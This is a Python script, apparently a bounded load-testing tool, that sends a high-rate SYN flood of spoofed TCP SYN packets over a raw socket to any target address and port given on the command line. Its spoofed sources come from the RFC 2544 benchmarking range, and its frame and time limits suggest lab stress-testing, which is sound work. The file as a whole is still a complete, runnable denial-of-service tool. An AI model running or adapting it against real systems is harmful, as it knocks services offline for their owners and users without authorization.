"""A bounded SYN flood on a local interface: distinct spoofed SYNs, from the benchmarking range 198.18.0.0/15 (RFC 2544).

usage: syn_flood.py INTERFACE OUR_MAC TARGET_MAC TARGET_ADDRESS TCP_PORT SECONDS FRAMES

Sends at most so many frames in at most so many seconds, as fast as it can, and prints how many and at what rate.
"""

import random
import socket
import struct
import sys
import time


def checksum(data):
    """The Internet checksum (RFC 1071); `data` is of even length."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


# Linux's layout: MSS 1460, SACK permitted, timestamps, NOP, window scale 7.
OPTIONS = bytes.fromhex("020405b4" "0402" "080a" "00001000" "00000000" "01" "030307")


def syn(source, target, port, chooser):
    tcp = struct.pack("!HHIIBBHHH", chooser.randrange(1024, 65536), port, chooser.getrandbits(32), 0, 10 << 4, 2, 64240,
                      0, 0) + OPTIONS
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, source, target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + tcp


def main():
    interface, our_mac, target_mac, target, port, seconds, frames = sys.argv[1:]
    target = socket.inet_aton(target)
    ethernet = bytes.fromhex(target_mac.replace(":", "") + our_mac.replace(":", "") + "0800")
    chooser = random.Random(1)
    templates = [
        ethernet + syn(struct.pack("!I", 0xC6120000 + chooser.getrandbits(17)), target, int(port), chooser)
        for _ in range(32768)
    ]
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((interface, 0))
    start, sent, no_room = time.monotonic(), 0, 0
    while sent < int(frames) and time.monotonic() - start < float(seconds):
        for _ in range(64):
            try:
                raw.send(templates[sent % len(templates)])
                sent += 1
            except OSError:  # the interface's queue is full
                no_room += 1
    spent = time.monotonic() - start
    print(f"{sent} SYNs in {spent:.1f} s, {sent / spent:.0f} a second; {no_room} times no room")


main()
